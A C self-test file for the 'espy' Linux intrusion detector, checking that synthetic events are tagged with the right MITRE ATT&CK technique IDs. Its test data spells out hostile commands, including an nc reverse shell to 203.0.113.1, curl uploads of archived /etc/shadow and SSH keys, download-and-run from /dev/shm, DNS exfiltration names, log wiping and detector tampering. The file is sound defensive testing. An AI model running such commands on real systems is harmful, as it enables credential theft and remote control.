/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * Every technique of DESIGN.md section 6 on a synthetic record sequence:
 * each scenario runs in a fresh world (a login shell from another host, or
 * a local console) and the verdict of the event that shows the technique
 * must name it, with a score.  Look-alikes that are not the technique
 * (a shell reading its own history, a plain chmod, touch without explicit
 * times, ip addr vs ip neigh) must not name it.
 */
#include <stdlib.h>
#pragma GCC diagnostic ignored "-Wsign-compare"
#include "kselftest_harness.h"
#include "synth.h"

#define O_WR	01
#define O_CR	0100
#define O_TR	01000

struct sc {
	struct synth_world w;
	struct synth_proc init, sshd, sh;	/* sh: remote login shell */
	struct synth_proc con;			/* local console shell, root */
};

static void sc_init(struct sc *s)
{
	struct espy_detect_config c;
	struct synth_host a = SYNTH_HOST_A;
	struct synth_world *w = &s->w;

	espy_detect_config_default(&c);
	c.mode = ESPY_MODE_DETECT;
	c.baseline.entries = 1024;
	c.max_procs = 1024;
	c.max_sessions = 128;
	if (synth_world_init(w, &c))
		abort();
	synth_existing(w, &s->init, 1, 0, 0, a, "/usr/lib/systemd/systemd",
		       "/sbin/init");
	synth_existing(w, &s->sshd, 500, 1, 0, a, "/usr/sbin/sshd",
		       "/usr/sbin/sshd -D");
	synth_existing(w, &s->con, 700, 1, 0, a, "/usr/bin/bash", "-bash");
	s->con.auid = 0;
	s->con.sessionid = 1;
	/* a login from 10.0.0.66 */
	synth_ssh_login(w, &s->sshd, &s->sh, "10.0.0.66", 1000, 7);
}

/* Run exe with argv from parent; return the exec's verdict. */
static struct espy_verdict run(struct sc *s, struct synth_proc *parent,
			       const char *exe, const char *argv, uint32_t xf)
{
	struct synth_proc c;

	synth_spawn(&s->w, parent, &c, exe, argv, xf);
	return s->w.last;
}

/* A process of parent's running exe performs a file operation. */
static struct espy_verdict fileop(struct sc *s, struct synth_proc *parent,
				  const char *exe, uint16_t type,
				  const char *path, const char *path2,
				  uint32_t flags, uint32_t mode)
{
	struct synth_proc c;

	synth_spawn(&s->w, parent, &c, exe, exe, 0);
	synth_file(&s->w.r, type, s->w.ts, &c, path, path2, flags, mode, 0);
	synth_feed(&s->w, 1);
	return s->w.last;
}

static struct espy_verdict privop(struct sc *s, struct synth_proc *parent,
				  const char *exe, uint16_t type, uint64_t a0,
				  uint64_t a1, uint32_t target)
{
	struct synth_proc c;

	synth_spawn(&s->w, parent, &c, exe, exe, 0);
	synth_priv(&s->w.r, type, s->w.ts, &c, 0, a0, a1, target);
	synth_feed(&s->w, 1);
	return s->w.last;
}

static int named(const struct espy_verdict *v, const char *id)
{
	if (!synth_has_tech(v, id)) {
		synth_dump(id, v);
		return 0;
	}
	return v->score >= 5;
}

#define SC(name) \
	static void sc_##name(struct sc *s, struct __test_metadata *_metadata); \
	TEST(name) \
	{ \
		struct sc s; \
		sc_init(&s); \
		sc_##name(&s, _metadata); \
		espy_detect_free(s.w.d); \
		espy_pipeline_fini(s.w.p); \
	} \
	static void sc_##name(struct sc *s, struct __test_metadata *_metadata)

/* ---- discovery ---- */
SC(t1082_system_information)
{
	struct espy_verdict v = run(s, &s->sh, "/usr/bin/uname", "uname -a", 0);

	EXPECT_TRUE(named(&v, "T1082"));
	v = run(s, &s->sh, "/usr/bin/cat", "cat /etc/os-release", 0);
	EXPECT_TRUE(named(&v, "T1082"));
}

SC(t1033_owner_discovery)
{
	struct espy_verdict v = run(s, &s->sh, "/usr/bin/whoami", "whoami", 0);

	EXPECT_TRUE(named(&v, "T1033"));
}

SC(t1087_account_discovery)
{
	struct espy_verdict v = run(s, &s->sh, "/usr/bin/cat", "cat /etc/passwd", 0);

	EXPECT_TRUE(named(&v, "T1087"));
	v = run(s, &s->sh, "/usr/bin/getent", "getent passwd", 0);
	EXPECT_TRUE(named(&v, "T1087"));
	v = run(s, &s->sh, "/usr/bin/getent", "getent services", 0);
	EXPECT_FALSE(synth_has_tech(&v, "T1087"));
}

SC(t1057_process_discovery)
{
	struct espy_verdict v = run(s, &s->sh, "/usr/bin/ps", "ps aux", 0);

	EXPECT_TRUE(named(&v, "T1057"));
}

SC(t1049_network_connections)
{
	struct espy_verdict v = run(s, &s->sh, "/usr/bin/ss", "ss -tnp", 0);

	EXPECT_TRUE(named(&v, "T1049"));
}

SC(t1016_network_configuration)
{
	struct espy_verdict v = run(s, &s->sh, "/usr/sbin/ip", "ip addr", 0);

	EXPECT_TRUE(named(&v, "T1016"));
	EXPECT_FALSE(synth_has_tech(&v, "T1018"));
}

SC(t1018_remote_systems)
{
	struct espy_verdict v = run(s, &s->sh, "/usr/sbin/ip", "ip neigh", 0);

	EXPECT_TRUE(named(&v, "T1018"));
	EXPECT_FALSE(synth_has_tech(&v, "T1016"));
	v = run(s, &s->sh, "/usr/bin/cat", "cat /home/alice/.ssh/known_hosts", 0);
	EXPECT_TRUE(named(&v, "T1018"));
}

SC(t1046_scanner_and_fanout)
{
	struct espy_verdict v = run(s, &s->sh, "/usr/bin/nmap",
				    "nmap -sS 10.0.0.0/24", 0);
	struct synth_proc py;
	char ip[32];
	int i, seen = 0, at = 0;

	EXPECT_TRUE(named(&v, "T1046"));
	/* an unknown program sweeping port 22 across the subnet: named when
	 * the sweep reaches 10 hosts, not again for each further host */
	synth_spawn(&s->w, &s->sh, &py, "/usr/bin/python3", "python3 sweep.py", 0);
	for (i = 1; i <= 15; i++) {
		snprintf(ip, sizeof(ip), "10.0.0.%d", 100 + i);
		synth_net(&s->w.r, ESPY_EV_CONNECT, s->w.ts, &py, "10.0.0.2",
			  40000 + i, ip, 22, -111, 0);
		synth_feed(&s->w, 100);
		if (synth_has_tech(&s->w.last, "T1046")) {
			EXPECT_TRUE(named(&s->w.last, "T1046"));
			seen++;
			at = i;
		}
	}
	EXPECT_EQ(1, seen);
	EXPECT_EQ(10, at);
}

SC(t1083_file_discovery)
{
	struct espy_verdict v = run(s, &s->sh, "/usr/bin/find",
				    "find / -perm -4000 -type f", 0);

	EXPECT_TRUE(named(&v, "T1083"));
	EXPECT_GE(v.score, 30);
}

/* ---- credential access ---- */
SC(t1003_008_shadow)
{
	struct espy_verdict v = fileop(s, &s->sh, "/usr/bin/cat", ESPY_EV_OPEN,
				       "/etc/shadow", NULL, 0, 0);

	EXPECT_TRUE(named(&v, "T1003.008"));
	EXPECT_GE(v.score, 50);
}

SC(t1552_004_private_keys)
{
	struct espy_verdict v = fileop(s, &s->sh, "/usr/bin/cat", ESPY_EV_OPEN,
				       "/home/bob/.ssh/id_rsa", NULL, 0, 0);
	struct espy_verdict own = fileop(s, &s->sh, "/usr/bin/ssh", ESPY_EV_OPEN,
					 "/home/bob/.ssh/id_rsa", NULL, 0, 0);

	EXPECT_TRUE(named(&v, "T1552.004"));
	EXPECT_GE(v.score, 50);
	/* ssh reading a key is its job: named, but weighs far less */
	EXPECT_LT(own.score, v.score);
}

SC(t1552_003_shell_history)
{
	struct espy_verdict v = fileop(s, &s->sh, "/usr/bin/cat", ESPY_EV_OPEN,
				       "/root/.bash_history", NULL, 0, 0);
	struct espy_verdict own = fileop(s, &s->sh, "/usr/bin/bash", ESPY_EV_OPEN,
					 "/home/alice/.bash_history", NULL, 0, 0);

	EXPECT_TRUE(named(&v, "T1552.003"));
	EXPECT_FALSE(synth_has_tech(&own, "T1552.003"));
}

SC(t1003_007_proc_mem)
{
	struct espy_verdict v = fileop(s, &s->con, "/usr/bin/python3",
				       ESPY_EV_OPEN, "/proc/812/mem", NULL, 0, 0);
	struct espy_verdict self = fileop(s, &s->con, "/usr/bin/python3",
					  ESPY_EV_OPEN, "/proc/self/mem", NULL,
					  0, 0);

	EXPECT_TRUE(named(&v, "T1003.007"));
	EXPECT_FALSE(synth_has_tech(&self, "T1003.007"));
}

SC(t1040_sniffing)
{
	struct espy_verdict v = privop(s, &s->con, "/usr/bin/python3",
				       ESPY_EV_SOCKET, 17, 3, 0);

	EXPECT_TRUE(named(&v, "T1040"));
	v = run(s, &s->con, "/usr/bin/tcpdump", "tcpdump -i eth0", 0);
	EXPECT_TRUE(named(&v, "T1040"));
}

/* ---- lateral movement ---- */
SC(t1021_004_ssh)
{
	struct synth_proc ssh;

	synth_spawn(&s->w, &s->sh, &ssh, "/usr/bin/ssh", "ssh bob@10.0.0.7", 0);
	synth_net(&s->w.r, ESPY_EV_CONNECT, s->w.ts, &ssh, "10.0.0.2", 50000,
		  "10.0.0.7", 22, 0, 0);
	synth_feed(&s->w, 1);
	EXPECT_TRUE(named(&s->w.last, "T1021.004"));
	/* loopback is not lateral */
	synth_net(&s->w.r, ESPY_EV_CONNECT, s->w.ts, &ssh, "127.0.0.1", 50001,
		  "127.0.0.1", 22, 0, 0);
	synth_feed(&s->w, 1);
	EXPECT_FALSE(synth_has_tech(&s->w.last, "T1021.004"));
}

SC(t1570_lateral_tool_transfer)
{
	struct synth_proc sftp, tool;

	/* sftp-server in the remote session writes a file, then it runs */
	synth_spawn(&s->w, &s->sh, &sftp, "/usr/lib/openssh/sftp-server",
		    "sftp-server", 0);
	synth_file(&s->w.r, ESPY_EV_OPEN, s->w.ts, &sftp, "/tmp/.x/agent",
		   NULL, O_WR | O_CR | O_TR, 0755, 3);
	synth_feed(&s->w, 1);
	synth_spawn(&s->w, &s->sh, &tool, "/tmp/.x/agent", "./agent", 0);
	EXPECT_TRUE(named(&s->w.last, "T1570"));
}

SC(t1105_ingress_tool_transfer)
{
	struct synth_proc curl, tool;

	synth_spawn(&s->w, &s->con, &curl, "/usr/bin/curl",
		    "curl -o /dev/shm/k http://203.0.113.9/k", 0);
	synth_file(&s->w.r, ESPY_EV_OPEN, s->w.ts, &curl, "/dev/shm/k", NULL,
		   O_WR | O_CR | O_TR, 0644, 3);
	synth_feed(&s->w, 1);
	synth_spawn(&s->w, &s->con, &tool, "/dev/shm/k", "/dev/shm/k", 0);
	EXPECT_TRUE(named(&s->w.last, "T1105"));
}

/* ---- collection ---- */
SC(t1560_001_archive)
{
	struct espy_verdict v = run(s, &s->sh, "/usr/bin/tar",
				    "tar czf /tmp/.l.tgz /home/bob/.ssh /etc/shadow", 0);
	struct espy_verdict x = run(s, &s->sh, "/usr/bin/tar", "tar xzf a.tgz", 0);

	EXPECT_TRUE(named(&v, "T1560.001"));
	EXPECT_FALSE(synth_has_tech(&x, "T1560.001"));
}

SC(t1074_staging)
{
	struct espy_verdict v = fileop(s, &s->sh, "/usr/bin/zip", ESPY_EV_OPEN,
				       "/dev/shm/stage/loot.zip", NULL,
				       O_WR | O_CR, 0644);

	EXPECT_TRUE(named(&v, "T1074"));
}

/* ---- exfiltration ---- */
SC(t1048_volume_out)
{
	struct synth_proc c;

	synth_spawn(&s->w, &s->sh, &c, "/usr/bin/curl",
		    "curl -T /tmp/.l.tgz https://203.0.113.5/u", 0);
	synth_net(&s->w.r, ESPY_EV_TCP_CLOSE, s->w.ts, &c, "10.0.0.2", 50100,
		  "203.0.113.5", 443, 0, 300ULL << 20);
	synth_feed(&s->w, 1);
	EXPECT_TRUE(named(&s->w.last, "T1048"));
	/* a small transfer is not exfiltration */
	synth_net(&s->w.r, ESPY_EV_TCP_CLOSE, s->w.ts, &c, "10.0.0.2", 50101,
		  "203.0.113.5", 443, 0, 4096);
	synth_feed(&s->w, 1);
	EXPECT_FALSE(synth_has_tech(&s->w.last, "T1048"));
}

/* The kernel closes most TCP connections in softirq, with no task: the
 * bytes are the connecting process's, found by the socket cookie. */
SC(t1048_taskless_close_is_attributed)
{
	struct synth_proc c;
	struct espy_net *n = (struct espy_net *)s->w.r.b;

	synth_spawn(&s->w, &s->sh, &c, "/usr/bin/curl",
		    "curl --data-binary @/tmp/l.tgz http://203.0.113.5/", 0);
	synth_net(&s->w.r, ESPY_EV_CONNECT, s->w.ts, &c, "10.0.0.2", 50200,
		  "203.0.113.5", 80, 0, 0);
	n->sock_cookie = 77;
	synth_feed(&s->w, 1);
	synth_net(&s->w.r, ESPY_EV_TCP_CLOSE, s->w.ts, NULL, "10.0.0.2", 50200,
		  "203.0.113.5", 80, 0, 40ULL << 20);
	n->sock_cookie = 77;
	synth_feed(&s->w, 1);
	EXPECT_TRUE(named(&s->w.last, "T1048"));
	EXPECT_NE(0, s->w.last.session_id);
}

SC(t1048_003_dns)
{
	struct synth_proc c;
	char name[128];
	int i, seen = 0;

	synth_spawn(&s->w, &s->sh, &c, "/usr/bin/dig", "dig", 0);
	synth_dns(&s->w.r, s->w.ts, &c,
		  "aGVsbG8gd29ybGQgdGhpcyBpcyBleGZpbHRyYXRlZCBkYXRh.x.evil.example");
	synth_feed(&s->w, 1);
	EXPECT_TRUE(named(&s->w.last, "T1048.003"));
	/* many short distinct names under one domain */
	for (i = 0; i < 25; i++) {
		snprintf(name, sizeof(name), "p%d.c%d.tunnel.example", i * 7, i);
		synth_dns(&s->w.r, s->w.ts, &c, name);
		synth_feed(&s->w, 50);
		seen |= synth_has_tech(&s->w.last, "T1048.003");
	}
	EXPECT_TRUE(seen);
	synth_dns(&s->w.r, s->w.ts, &c, "www.debian.org");
	synth_feed(&s->w, 70000);
	EXPECT_FALSE(synth_has_tech(&s->w.last, "T1048.003"));
}

/* ---- persistence ---- */
SC(t1098_004_authorized_keys)
{
	struct espy_verdict v = fileop(s, &s->sh, "/usr/bin/bash", ESPY_EV_OPEN,
				       "/home/bob/.ssh/authorized_keys", NULL,
				       O_WR | 02000, 0);

	EXPECT_TRUE(named(&v, "T1098.004"));
	v = fileop(s, &s->sh, "/usr/bin/mv", ESPY_EV_RENAME, "/tmp/k",
		   "/root/.ssh/authorized_keys", 0, 0);
	EXPECT_TRUE(named(&v, "T1098.004"));
}

SC(t1053_003_cron)
{
	struct espy_verdict v = fileop(s, &s->con, "/usr/bin/tee", ESPY_EV_OPEN,
				       "/etc/cron.d/update", NULL, O_WR | O_CR, 0644);

	EXPECT_TRUE(named(&v, "T1053.003"));
	v = run(s, &s->sh, "/usr/bin/crontab", "crontab /tmp/c", 0);
	EXPECT_TRUE(named(&v, "T1053.003"));
	v = run(s, &s->sh, "/usr/bin/crontab", "crontab -l", 0);
	EXPECT_FALSE(synth_has_tech(&v, "T1053.003"));
}

SC(t1543_002_systemd)
{
	struct espy_verdict v = fileop(s, &s->con, "/usr/bin/cp", ESPY_EV_OPEN,
				       "/etc/systemd/system/dbus-helper.service",
				       NULL, O_WR | O_CR, 0644);

	EXPECT_TRUE(named(&v, "T1543.002"));
	v = run(s, &s->con, "/usr/bin/systemctl", "systemctl enable dbus-helper", 0);
	EXPECT_TRUE(named(&v, "T1543.002"));
}

SC(t1546_004_shell_rc)
{
	struct espy_verdict v = fileop(s, &s->sh, "/usr/bin/bash", ESPY_EV_OPEN,
				       "/home/bob/.bashrc", NULL, O_WR | 02000, 0);

	EXPECT_TRUE(named(&v, "T1546.004"));
	v = fileop(s, &s->con, "/usr/bin/tee", ESPY_EV_OPEN,
		   "/etc/profile.d/zz.sh", NULL, O_WR | O_CR, 0644);
	EXPECT_TRUE(named(&v, "T1546.004"));
}

SC(t1136_001_new_user)
{
	struct espy_verdict v = run(s, &s->con, "/usr/sbin/useradd",
				    "useradd -m -s /bin/bash support", 0);

	EXPECT_TRUE(named(&v, "T1136.001"));
	v = fileop(s, &s->con, "/usr/bin/vi", ESPY_EV_OPEN, "/etc/passwd", NULL,
		   O_WR | O_TR, 0);
	EXPECT_TRUE(named(&v, "T1136.001"));
}

SC(t1574_006_ld_preload)
{
	struct espy_verdict v = fileop(s, &s->con, "/usr/bin/bash", ESPY_EV_OPEN,
				       "/etc/ld.so.preload", NULL, O_WR | O_CR, 0644);

	EXPECT_TRUE(named(&v, "T1574.006"));
	EXPECT_GE(v.score, 80);
}

SC(t1547_006_kernel_module)
{
	struct espy_verdict v = privop(s, &s->con, "/usr/sbin/insmod",
				       ESPY_EV_MODULE, 3, 0, 0);

	EXPECT_TRUE(named(&v, "T1547.006"));
}

SC(t1556_003_pam)
{
	struct espy_verdict v = fileop(s, &s->con, "/usr/bin/vi", ESPY_EV_OPEN,
				       "/etc/pam.d/sshd", NULL, O_WR | O_TR, 0);

	EXPECT_TRUE(named(&v, "T1556.003"));
}

/* ---- defense evasion ---- */
SC(t1070_003_clear_history)
{
	struct synth_proc ln;
	struct espy_verdict v = fileop(s, &s->sh, "/usr/bin/rm", ESPY_EV_UNLINK,
				       "/home/alice/.bash_history", NULL, 0, 0);

	EXPECT_TRUE(named(&v, "T1070.003"));
	v = fileop(s, &s->sh, "/usr/bin/ln", ESPY_EV_LINK,
		   "/home/alice/.bash_history", "/dev/null", 0, 0);
	EXPECT_FALSE(synth_has_tech(&v, "T1070.003"));	/* a hard link */
	synth_spawn(&s->w, &s->sh, &ln, "/usr/bin/ln",
		    "ln -sf /dev/null /home/alice/.bash_history", 0);
	synth_file(&s->w.r, ESPY_EV_LINK, s->w.ts, &ln,
		   "/home/alice/.bash_history", "/dev/null", 0, 0, 0);
	((struct espy_file *)s->w.r.b)->fflags = ESPY_FILE_SYMLINK;
	synth_feed(&s->w, 1);
	EXPECT_TRUE(named(&s->w.last, "T1070.003"));
}

SC(t1070_002_clear_logs)
{
	struct espy_verdict v = fileop(s, &s->con, "/usr/bin/truncate",
				       ESPY_EV_TRUNCATE, "/var/log/auth.log",
				       NULL, 0, 0);

	EXPECT_TRUE(named(&v, "T1070.002"));
	v = fileop(s, &s->con, "/usr/bin/rm", ESPY_EV_UNLINK, "/var/log/wtmp",
		   NULL, 0, 0);
	EXPECT_TRUE(named(&v, "T1070.002"));
}

SC(t1070_006_timestomp)
{
	struct synth_proc t;
	struct espy_file *f = (struct espy_file *)s->w.r.b;

	synth_spawn(&s->w, &s->con, &t, "/usr/bin/touch",
		    "touch -r /usr/bin/ls /usr/bin/ls2", 0);
	synth_file(&s->w.r, ESPY_EV_UTIMES, s->w.ts, &t, "/usr/bin/ls2", NULL,
		   0, 0, 0);
	f->mtime_ns = 1600000000000000000LL;
	f->atime_ns = 1600000000000000000LL;
	synth_feed(&s->w, 1);
	EXPECT_TRUE(named(&s->w.last, "T1070.006"));
	/* touch with the current time is not timestomping */
	synth_file(&s->w.r, ESPY_EV_UTIMES, s->w.ts, &t, "/usr/bin/ls2", NULL,
		   0, 0, 0);
	synth_feed(&s->w, 1);
	EXPECT_FALSE(synth_has_tech(&s->w.last, "T1070.006"));
}

SC(t1620_memfd_exec)
{
	struct espy_verdict v = run(s, &s->sh, "/memfd:x (deleted)", "x",
				    ESPY_EXEC_MEMFD);

	EXPECT_TRUE(named(&v, "T1620"));
	EXPECT_GE(v.score, 70);
}

SC(t1055_008_ptrace)
{
	struct espy_verdict v = privop(s, &s->con, "/usr/bin/python3",
				       ESPY_EV_PTRACE, 16, 0, 812);

	EXPECT_TRUE(named(&v, "T1055.008"));
	v = privop(s, &s->con, "/usr/bin/python3", ESPY_EV_VM_WRITE, 1, 0, 812);
	EXPECT_TRUE(named(&v, "T1055.008"));
}

SC(t1548_001_setuid)
{
	struct espy_verdict v = fileop(s, &s->con, "/usr/bin/chmod",
				       ESPY_EV_CHMOD, "/tmp/.sh", NULL, 0, 04755);

	EXPECT_TRUE(named(&v, "T1548.001"));
	v = fileop(s, &s->con, "/usr/bin/chmod", ESPY_EV_CHMOD, "/tmp/.sh",
		   NULL, 0, 0755);
	EXPECT_FALSE(synth_has_tech(&v, "T1548.001"));
}

SC(t1548_003_sudoers)
{
	struct espy_verdict v = fileop(s, &s->con, "/usr/bin/tee", ESPY_EV_OPEN,
				       "/etc/sudoers.d/90-x", NULL, O_WR | O_CR, 0440);

	EXPECT_TRUE(named(&v, "T1548.003"));
}

SC(t1562_001_tamper_with_espy)
{
	struct espy_verdict v = privop(s, &s->con, "/usr/bin/kill",
				       ESPY_EV_KILL, 9, 0, 321);

	EXPECT_TRUE(named(&v, "T1562.001"));
	EXPECT_GE(v.score, 85);
	v = fileop(s, &s->con, "/usr/bin/rm", ESPY_EV_UNLINK,
		   "/var/lib/espy/baseline", NULL, 0, 0);
	EXPECT_TRUE(named(&v, "T1562.001"));
	v = run(s, &s->con, "/usr/bin/systemctl", "systemctl stop espyd", 0);
	EXPECT_TRUE(named(&v, "T1562.001"));
}

SC(t1014_bpf_load)
{
	struct espy_verdict v = privop(s, &s->con, "/usr/bin/python3",
				       ESPY_EV_BPF, 2, 100, 0);

	EXPECT_TRUE(named(&v, "T1014"));
}

/* ---- command and control, execution ---- */
SC(t1059_004_reverse_shell)
{
	struct espy_verdict v = run(s, &s->sh, "/usr/bin/bash", "bash -i",
				    ESPY_EXEC_STDIN_SOCK | ESPY_EXEC_STDOUT_SOCK |
				    ESPY_EXEC_STDERR_SOCK);
	struct espy_verdict j = run(s, &s->sh, "/usr/bin/bash", "bash -c x",
				    ESPY_EXEC_STDOUT_SOCK | ESPY_EXEC_STDERR_SOCK);

	EXPECT_TRUE(named(&v, "T1059.004"));
	EXPECT_GE(v.score, 80);
	/* journald's stdout socket alone is not a reverse shell */
	EXPECT_FALSE(synth_has_tech(&j, "T1059.004"));
	v = run(s, &s->sh, "/usr/bin/nc", "nc -e /bin/sh 203.0.113.1 4444", 0);
	EXPECT_TRUE(named(&v, "T1059.004"));
}

SC(t1090_proxy)
{
	struct espy_verdict v = run(s, &s->sh, "/usr/bin/ssh",
				    "ssh -fN -D 1080 bob@10.0.0.7", 0);

	EXPECT_TRUE(named(&v, "T1090"));
	EXPECT_FALSE(synth_has_tech(&v, "T1572"));
}

SC(t1572_tunnel)
{
	struct espy_verdict v = run(s, &s->sh, "/usr/bin/ssh",
				    "ssh -R 8080:localhost:80 bob@203.0.113.3", 0);

	EXPECT_TRUE(named(&v, "T1572"));
	v = run(s, &s->sh, "/usr/bin/socat",
		"socat TCP-LISTEN:9000 TCP:10.0.0.9:22", 0);
	EXPECT_TRUE(named(&v, "T1572"));
	v = run(s, &s->sh, "/usr/bin/ssh", "ssh -p 2222 -l bob 10.0.0.7 uptime", 0);
	EXPECT_FALSE(synth_has_tech(&v, "T1572"));
	EXPECT_FALSE(synth_has_tech(&v, "T1090"));
}

TEST_HARNESS_MAIN
